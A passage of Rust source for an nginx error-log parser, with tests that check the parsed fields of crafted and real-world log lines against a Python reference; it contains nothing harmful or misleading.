    static WHILE: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b" while "));
    let last = memchr::memrchr(b',', message);
    let bound = match last {
        Some(l) if message[l..].starts_with(b", so ") => memchr::memrchr(b',', &message[..l]),
        other => other,
    };
    // " while " holds no comma: an occurrence that ends after `bound` starts after it.
    let from = bound.map_or(0, |b| b + 1);
    let i = WHILE.find(&message[from..])?;
    Some(&message[from + i + 7..])
}

/// `lua_context` pattern, `search`: `,\x20context:\x20(?P<lua_context>[\w.*]+)\Z` (ASCII
/// `\w`). Only the last ", context: " can match: an earlier one has a comma after it.
fn lua_context_of(message: &[u8]) -> Option<&[u8]> {
    const KEY: &[u8] = b", context: ";
    let i = LUA_CONTEXT.rfind(message)?;
    let rest = &message[i + KEY.len()..];
    let ok = !rest.is_empty() && rest.iter().all(|&b| is_word(b) || b == b'.' || b == b'*');
    ok.then_some(rest)
}

/// `ended` pattern, `search` (alternatives with `^` hold only at the message's start).
fn ended(message: &[u8]) -> bool {
    const PREMATURE: &[u8] = b"client prematurely closed connection";
    static PREMATURE_ANYWHERE: LazyLock<Finder<'static>> =
        LazyLock::new(|| Finder::new(b" client prematurely closed connection"));
    let word_ends = |lit: &[u8]| {
        message.starts_with(lit) && !message.get(lit.len()).is_some_and(|&b| is_word(b))
    };
    if let Some(rest) = message.strip_prefix(b"client ") {
        // ^client\x20\S+\x20closed\x20keepalive\x20connection (\S+ cannot give back: it
        // stops at whitespace, and a shorter run would leave a non-space before " closed")
        let n = rest.iter().take_while(|&&b| !is_space(b)).count();
        if n > 0 && rest[n..].starts_with(b" closed keepalive connection") {
            return true;
        }
        if message.starts_with(b"client closed connection while waiting")
            || message.starts_with(PREMATURE)
            || word_ends(b"client disconnected")
            || word_ends(b"client timed out")
        {
            return true;
        }
    }
    PREMATURE_ANYWHERE.find(message).is_some()
}

/// `_subsystem`.
fn subsystem(ev: &Event<'_>) -> Option<Subsystem> {
    const HTTP_SCHEMES: [&[u8]; 8] = [
        b"http://",
        b"https://",
        b"grpc://",
        b"grpcs://",
        b"fastcgi://",
        b"uwsgi://",
        b"scgi://",
        b"memcached://",
    ];
    let message = ev.message;
    if message.starts_with(b"stream ") || BYTES_FROM_CLIENT.find(message).is_some() {
        return Some(Subsystem::Stream);
    }
    if ev.request.is_some() || ev.host.is_some() {
        return Some(Subsystem::Http);
    }
    let upstream = ev.upstream?;
    if HTTP_SCHEMES.iter().any(|s| upstream.starts_with(s)) {
        Some(Subsystem::Http)
    } else {
        Some(Subsystem::Stream)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::head::{ended_hint, failure_kind};
    use crate::text::decode_escaped;

    /// A line and the fields it gives: `(name, str(value))`, or `[("reason", reason)]`.
    type Case = (&'static [u8], &'static [(&'static str, &'static str)]);

    /// Every field of the event as Python would print it (`str(value)`; absent: left out),
    /// and two of the head: `failure` (`EventHead.failure`) and `ended_hint` when true.
    fn fields(text: &[u8], ev: &Event<'_>) -> Vec<(&'static str, String)> {
        let s = |v: Option<&[u8]>| v.map(decode_escaped);
        let n = |v: Option<u64>| v.map(|v| v.to_string());
        let flag = |b: bool| Some(if b { "true" } else { "false" }.to_string());
        let all = [
            ("level", Some(ev.head.level.as_str().to_string())),
            ("pid", n(Some(ev.head.pid))),
            ("tid", n(Some(ev.head.tid))),
            ("cid", n(ev.head.cid)),
            ("naive", Some(ev.head.naive.to_string())),
            ("message", s(Some(ev.message))),
            ("context", s(ev.context)),
            ("client", s(ev.client)),
            ("server", s(ev.server)),
            ("request", s(ev.request)),
            ("subrequest", s(ev.subrequest)),
            ("upstream", s(ev.upstream)),
            ("host", s(ev.host)),
            ("referrer", s(ev.referrer)),
            ("login", s(ev.login)),
            ("peer", s(ev.peer)),
            ("errno_text", s(ev.errno_text)),
            ("lua_context", s(ev.lua_context)),
            ("kind", ev.kind.map(|k| k.as_str().to_string())),
            ("errno", n(ev.errno)),
            ("subsystem", ev.subsystem.map(|k| k.as_str().to_string())),
            ("bytes_from_client", n(ev.bytes_from_client)),
            ("bytes_to_client", n(ev.bytes_to_client)),
            ("bytes_from_upstream", n(ev.bytes_from_upstream)),
            ("bytes_to_upstream", n(ev.bytes_to_upstream)),
            ("connect_failure", flag(ev.connect_failure)),
            ("ended", flag(ev.ended)),
            ("lines", Some(ev.lines.to_string())),
            (
                "failure",
                failure_kind(text, &ev.head).map(|k| k.as_str().to_string()),
            ),
            ("ended_hint", ended_hint(text).then(|| "true".to_string())),
        ];
        all.into_iter()
            .filter_map(|(k, v)| v.map(|v| (k, v)))
            .collect()
    }

    /// `text` gives exactly the fields `expect` lists (from the Python reference), or is
    /// unparsed with `expect`'s `reason` by both parses.
    fn check(text: &[u8], expect: &[(&str, &str)]) {
        let shown = decode_escaped(text);
        if let [("reason", reason)] = expect {
            assert_eq!(parse_event(text), Err(*reason), "{shown}");
            assert_eq!(parse_head(text), Err(*reason), "{shown}");
            return;
        }
        let ev = parse_event(text).unwrap_or_else(|r| panic!("{r}: {shown}"));
        assert_eq!(parse_head(text), Ok(ev.head), "{shown}");
        let mut got: Vec<(&str, String)> = fields(text, &ev);
        let mut want: Vec<(&str, String)> =
            expect.iter().map(|(k, v)| (*k, v.to_string())).collect();
        got.sort();
        want.sort();
        assert_eq!(got, want, "{shown}");
    }

    /// The head agrees with the event as tests/test_formats.py's `assert_head_agrees` says.
    fn assert_head_agrees(text: &[u8]) {
        let (Ok(head), Ok(ev)) = (parse_head(text), parse_event(text)) else {
            assert_eq!(parse_head(text).err(), parse_event(text).err());
            return;
        };
        assert_eq!(head, ev.head);
        let failure = failure_kind(text, &head);
        if ev.connect_failure && head.cid.is_some() {
            assert_eq!(failure, ev.kind, "{}", decode_escaped(text));
            assert!(failure.is_some());
        } else {
            assert_eq!(failure, None, "{}", decode_escaped(text));
        }
        if ev.ended {
            assert!(ended_hint(text));
        }
    }

    /// Lines written for the rules of the grammar, with the fields the Python reference
    /// (tests/reference/parser.py) gives them.
    #[rustfmt::skip]
    const CASES: &[Case] = &[
    // a fake tail inside the request value wins: the fast grammar fails everywhere (quotes), and the full one matches from that right-most key
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: 1.1.1.1, server: a, request: \"GET /?q=\", client: 6.6.6.6, server: evil\" HTTP/1.1\", host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x, client: 1.1.1.1, server: a, request: \"GET /?q=\""), ("client", "6.6.6.6"), ("server", "evil\" HTTP/1.1\""), ("host", "h"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a fake tail after the real one, with no server: the real one is the right-most that matches
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: 1.1.1.1, server: a, request: \"GET /?, client: 6.6.6.6 HTTP/1.1\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "1.1.1.1"), ("server", "a"), ("request", "GET /?, client: 6.6.6.6 HTTP/1.1"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a quote inside the request, then upstream and host
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, request: \"GET /\"x\" HTTP/1.1\", upstream: \"http://u:81/\", host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("request", "GET /\"x\" HTTP/1.1"), ("upstream", "http://u:81/"), ("host", "h"), ("peer", "u:81"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a quoted value ends at the first quote followed by an allowed next key
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, request: \"a\", host: \"b\", referrer: \"c\", host: \"d\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("request", "a"), ("host", "b"), ("referrer", "c\", host: \"d"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a request whose quote is followed by a key it may not be followed by
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, request: \"a\", login: \"b\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("request", "a\", login: \"b"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // an unterminated referrer runs to the end
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, host: \"h\", referrer: \"http://x/",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("host", "h"), ("referrer", "http://x/"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a referrer with quotes inside
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, referrer: \"a\"b\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("referrer", "a\"b"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a referrer then byte counters
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, referrer: \"r\", bytes from/to client:1/2, bytes from/to upstream:3/4",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("referrer", "r"), ("subsystem", "stream"), ("bytes_from_client", "1"), ("bytes_to_client", "2"), ("bytes_from_upstream", "3"), ("bytes_to_upstream", "4"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // continuation lines: the event holds newlines (server and values may too)
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 upstream sent too big header\nwhile reading response header, client: a, server: b\nc, request: \"GET / HTTP/1.1\n\", host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "upstream sent too big header\nwhile reading response header"), ("client", "a"), ("server", "b\nc"), ("request", "GET / HTTP/1.1\n"), ("host", "h"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "4")],
    ),
    // a Lua stack traceback over several lines with its context
    (
        b"2024/01/01 00:00:00 [error] 7#7: *9 lua entry thread aborted: runtime error: x.lua:1: boom\nstack traceback:\ncoroutine 0:\n\t[C]: in function 'error', context: ngx.timer",
        &[("level", "error"), ("pid", "7"), ("tid", "7"), ("cid", "9"), ("naive", "1704067200"), ("message", "lua entry thread aborted: runtime error: x.lua:1: boom\nstack traceback:\ncoroutine 0:\n\u{9}[C]: in function 'error', context: ngx.timer"), ("lua_context", "ngx.timer"), ("connect_failure", "false"), ("ended", "false"), ("lines", "4")],
    ),
    // a Lua context is only read when there is no tail
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 [lua] a.lua:1: x, context: ngx.timer, client: c, server: s",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "[lua] a.lua:1: x, context: ngx.timer"), ("client", "c"), ("server", "s"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a Lua context must end the message
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 [lua] a.lua:1: x, context: ngx.timer!",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "[lua] a.lua:1: x, context: ngx.timer!"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a server holding a space: only the full grammar (`[^,]*`) reads it
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: a b, host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "a b"), ("host", "h"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a bare upstream followed by a host
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, upstream: 10.0.0.1:25, host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("upstream", "10.0.0.1:25"), ("host", "h"), ("peer", "10.0.0.1:25"), ("kind", "other"), ("subsystem", "mail"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a login with a quote inside, then a bare upstream (mail)
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, login: \"b\"o\"b\", upstream: 10.0.0.1:110",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("upstream", "10.0.0.1:110"), ("login", "b\"o\"b"), ("peer", "10.0.0.1:110"), ("kind", "other"), ("subsystem", "mail"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a subrequest
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, request: \"GET / HTTP/1.1\", subrequest: \"/auth\", upstream: \"http://10.0.0.9:80/auth\", host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("request", "GET / HTTP/1.1"), ("subrequest", "/auth"), ("upstream", "http://10.0.0.9:80/auth"), ("host", "h"), ("peer", "10.0.0.9:80"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // client using starttls, nothing after the server
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: 1.2.3.4 using starttls, server: 0.0.0.0:25",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "1.2.3.4"), ("server", "0.0.0.0:25"), ("subsystem", "mail"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // byte counters in Unicode digits: the full grammar's \d (regex module) reads them, int() too
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, bytes from/to client:1/2, bytes from/to upstream:3/1\xd9\xa4",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("subsystem", "stream"), ("bytes_from_client", "1"), ("bytes_to_client", "2"), ("bytes_from_upstream", "3"), ("bytes_to_upstream", "14"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // the context is the rest after the left-most " while " it can be
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 a while b while c",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "a while b while c"), ("context", "b while c"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a context may hold one ", so "
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x while a, so b",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x while a, so b"), ("context", "a, so b"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a context with another comma: none
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x while a, b",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x while a, b"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // the context after the last commas
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x while a, b while c, so d, client: c, server: s",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x while a, b while c, so d"), ("context", "c, so d"), ("client", "c"), ("server", "s"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // timeout while reading, with "while connecting to upstream" in the Host header: no connect failure
    (
        b"2026/11/25 17:33:50 [error] 1#1: *300 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 127.0.0.1, server: s, request: \"GET /x HTTP/1.1\", upstream: \"http://127.0.0.1:1/x\", host: \"a while connecting to upstream\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "300"), ("naive", "1795628030"), ("message", "upstream timed out (110: Connection timed out) while reading response header from upstream"), ("context", "reading response header from upstream"), ("client", "127.0.0.1"), ("server", "s"), ("request", "GET /x HTTP/1.1"), ("upstream", "http://127.0.0.1:1/x"), ("host", "a while connecting to upstream"), ("peer", "127.0.0.1:1"), ("errno_text", "Connection timed out"), ("kind", "upstream_timed_out"), ("errno", "110"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // timeout while connecting, no tail: the text ends with the action
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 upstream timed out (110: Connection timed out) while connecting to upstream",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "upstream timed out (110: Connection timed out) while connecting to upstream"), ("context", "connecting to upstream"), ("errno_text", "Connection timed out"), ("kind", "upstream_timed_out"), ("errno", "110"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "upstream_timed_out")],
    ),
    // no live upstreams needs a word boundary
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 no live upstreamsX while connecting to upstream, client: c, server: s, upstream: \"u\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "no live upstreamsX while connecting to upstream"), ("context", "connecting to upstream"), ("client", "c"), ("server", "s"), ("upstream", "u"), ("peer", "u"), ("kind", "other"), ("subsystem", "stream"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a failure start that is no kind: the errno search and kind other apply
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 connect() failed (x: y) (12: z), client: c, server: s, upstream: \"http://u/\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "connect() failed (x: y) (12: z)"), ("client", "c"), ("server", "s"), ("upstream", "http://u/"), ("peer", "u"), ("errno_text", "z"), ("kind", "other"), ("errno", "12"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // warn level with an upstream: no kind
    (
        b"2024/01/01 00:00:00 [warn] 1#1: *1 x (5: y), client: c, server: s, upstream: \"http://u/\"",
        &[("level", "warn"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x (5: y)"), ("client", "c"), ("server", "s"), ("upstream", "http://u/"), ("peer", "u"), ("errno_text", "y"), ("errno", "5"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // error with an upstream only in the context: kind other
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x while reading upstream",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x while reading upstream"), ("context", "reading upstream"), ("kind", "other"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // connect() to: the message's peer overrides the tail's
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 connect() to 10.0.0.7:80 failed (111: Connection refused) while connecting to upstream, client: c, server: s, upstream: \"http://10.0.0.8:80/\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "connect() to 10.0.0.7:80 failed (111: Connection refused) while connecting to upstream"), ("context", "connecting to upstream"), ("client", "c"), ("server", "s"), ("upstream", "http://10.0.0.8:80/"), ("peer", "10.0.0.7:80"), ("errno_text", "Connection refused"), ("kind", "connect_to_failed"), ("errno", "111"), ("subsystem", "http"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "connect_to_failed")],
    ),
    // connect() to: the peer runs to the first " failed (" that completes the pattern
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 connect() to a failed x failed (113: No route to host) while connecting to upstream",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "connect() to a failed x failed (113: No route to host) while connecting to upstream"), ("context", "connecting to upstream"), ("peer", "a failed x"), ("errno_text", "No route to host"), ("kind", "connect_to_failed"), ("errno", "113"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "connect_to_failed")],
    ),
    // the kind is matched on the message only: the tail holds the only ')' (head() sees connect_failed in the whole text)
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 connect() failed (111: x, client: c, server: s, host: \"h)\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "connect() failed (111: x"), ("client", "c"), ("server", "s"), ("host", "h)"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1"), ("failure", "connect_failed")],
    ),
    // ended: client closed keepalive connection
    (
        b"2024/01/01 00:00:00 [info] 1#1: *1 client 10.0.0.1 closed keepalive connection",
        &[("level", "info"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "client 10.0.0.1 closed keepalive connection"), ("connect_failure", "false"), ("ended", "true"), ("lines", "1"), ("ended_hint", "true")],
    ),
    // ended: client prematurely closed connection in the middle
    (
        b"2024/01/01 00:00:00 [info] 1#1: *1 recv() failed (104: x) while reading, client prematurely closed connection",
        &[("level", "info"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "recv() failed (104: x) while reading, client prematurely closed connection"), ("errno_text", "x"), ("errno", "104"), ("connect_failure", "false"), ("ended", "true"), ("lines", "1"), ("ended_hint", "true")],
    ),
    // ended: client timed out needs a word boundary
    (
        b"2024/01/01 00:00:00 [info] 1#1: *1 client timed outx",
        &[("level", "info"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "client timed outx"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1"), ("ended_hint", "true")],
    ),
    // ended: client disconnected
    (
        b"2024/01/01 00:00:00 [info] 1#1: *1 client disconnected, bytes from/to client:9/9, bytes from/to upstream:9/9",
        &[("level", "info"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "client disconnected, bytes from/to client:9/9, bytes from/to upstream:9/9"), ("subsystem", "stream"), ("connect_failure", "false"), ("ended", "true"), ("lines", "1"), ("ended_hint", "true")],
    ),
    // an empty message before the tail
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 , client: c, server: s",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", ""), ("client", "c"), ("server", "s"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // nothing after the head
    (
        b"2024/01/01 00:00:00 [info] 1#1:",
        &[("level", "info"), ("pid", "1"), ("tid", "1"), ("naive", "1704067200"), ("message", ""), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // an upstream scheme decides http against stream
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, upstream: \"grpc://10.0.0.1:50051\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("upstream", "grpc://10.0.0.1:50051"), ("peer", "10.0.0.1:50051"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a stream upstream without counters
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, upstream: \"10.0.0.1:5555\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("upstream", "10.0.0.1:5555"), ("peer", "10.0.0.1:5555"), ("kind", "other"), ("subsystem", "stream"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // a message starting with "stream "
    (
        b"2024/01/01 00:00:00 [info] 1#1: *1 stream x",
        &[("level", "info"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "stream x"), ("subsystem", "stream"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // the fast grammar wins over a more right-most full-grammar match
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, host: \"h, client: d, server: e f\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x"), ("client", "c"), ("server", "s"), ("host", "h, client: d, server: e f"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // no grammar matches from the left key; the full one does from the right-most
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: c, server: s, host: \"h\", client: d, server: e f",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "x, client: c, server: s, host: \"h\""), ("client", "d"), ("server", "e f"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // invalid UTF-8 in a quoted value
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 connect() failed (111: refused) while connecting to upstream, client: 1.2.3.4, server: s, request: \"GET /\xff\xfe HTTP/1.1\", upstream: \"http://1.2.3.4:80/\", host: \"h\"",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "connect() failed (111: refused) while connecting to upstream"), ("context", "connecting to upstream"), ("client", "1.2.3.4"), ("server", "s"), ("request", "GET /\\xff\\xfe HTTP/1.1"), ("upstream", "http://1.2.3.4:80/"), ("host", "h"), ("peer", "1.2.3.4:80"), ("errno_text", "refused"), ("kind", "connect_failed"), ("errno", "111"), ("subsystem", "http"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "connect_failed")],
    ),
    // an invalid byte after "no live upstreams" is no word character
    (
        b"2024/01/01 00:00:00 [error] 1#1: *1 no live upstreams\xff",
        &[("level", "error"), ("pid", "1"), ("tid", "1"), ("cid", "1"), ("naive", "1704067200"), ("message", "no live upstreams\\xff"), ("kind", "no_live_upstreams"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "no_live_upstreams")],
    ),
    ];

    /// A spread of tests/fixtures/peer/nginx-error.jsonl and issue-lines.jsonl (every
    /// peer project, multi-line events, rejected lines), with the fields the Python
    /// reference gives them (not the peers' own expectations, which mean other things).
    #[rustfmt::skip]
    const FIXTURES: &[Case] = &[
    // elastic/beats
    (
        b"2016/10/25 14:49:34 [error] 54053#0: *1 open() \"/usr/local/Cellar/nginx/1.10.2_1/html/favicon.ico\" failed (2: No such file or directory), client: 127.0.0.1, server: localhost, request: \"GET /favicon.ico HTTP/1.1\", host: \"localhost:8080\", referrer: \"http://localhost:8080/\"",
        &[("level", "error"), ("pid", "54053"), ("tid", "0"), ("cid", "1"), ("naive", "1477406974"), ("message", "open() \"/usr/local/Cellar/nginx/1.10.2_1/html/favicon.ico\" failed (2: No such file or directory)"), ("client", "127.0.0.1"), ("server", "localhost"), ("request", "GET /favicon.ico HTTP/1.1"), ("host", "localhost:8080"), ("referrer", "http://localhost:8080/"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // elastic/beats
    (
        b"2016/10/25 14:50:44 [error] 54053#0: *3 open() \"/usr/local/Cellar/nginx/1.10.2_1/html/adsasd\" failed (2: No such file or directory), client: 127.0.0.1, server: localhost, request: \"GET /adsasd HTTP/1.1\", host: \"localhost:8080\"",
        &[("level", "error"), ("pid", "54053"), ("tid", "0"), ("cid", "3"), ("naive", "1477407044"), ("message", "open() \"/usr/local/Cellar/nginx/1.10.2_1/html/adsasd\" failed (2: No such file or directory)"), ("client", "127.0.0.1"), ("server", "localhost"), ("request", "GET /adsasd HTTP/1.1"), ("host", "localhost:8080"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // elastic/beats
    (
        b"2019/10/30 23:26:34 [error] 205860#205860: *180289 FastCGI sent in stderr: \"PHP message: PHP Warning:  Declaration of FEE_Field_Terms::wrap($content, $taxonomy, $before, $sep, $after) should be compatible with FEE_Field_Post::wrap($content, $post_id = 0) in /var/www/xxx/web/wp-content/plugins/front-end-editor/php/fields/post.php on line 0\nPHP message: PHP Warning:  Declaration of FEE_Field_Tags::wrap($content, $before, $sep, $after) should be compatible with FEE_Field_Terms::wrap($content, $taxonomy, $before, $sep, $after) in /var/www/xxx/web/wp-content/plugins/front-end-editor/php/fields/post.php on line 0\nPHP message: PHP Warning:  Declaration of FEE_Field_Category::wrap($content, $sep, $parents) should be compatible with FEE_Field_Terms::wrap($content, $taxonomy, $before, $sep, $after) in /var/www/xxx/web/wp-content/plugins/front-end-editor/php/fields/post.php on line 0",
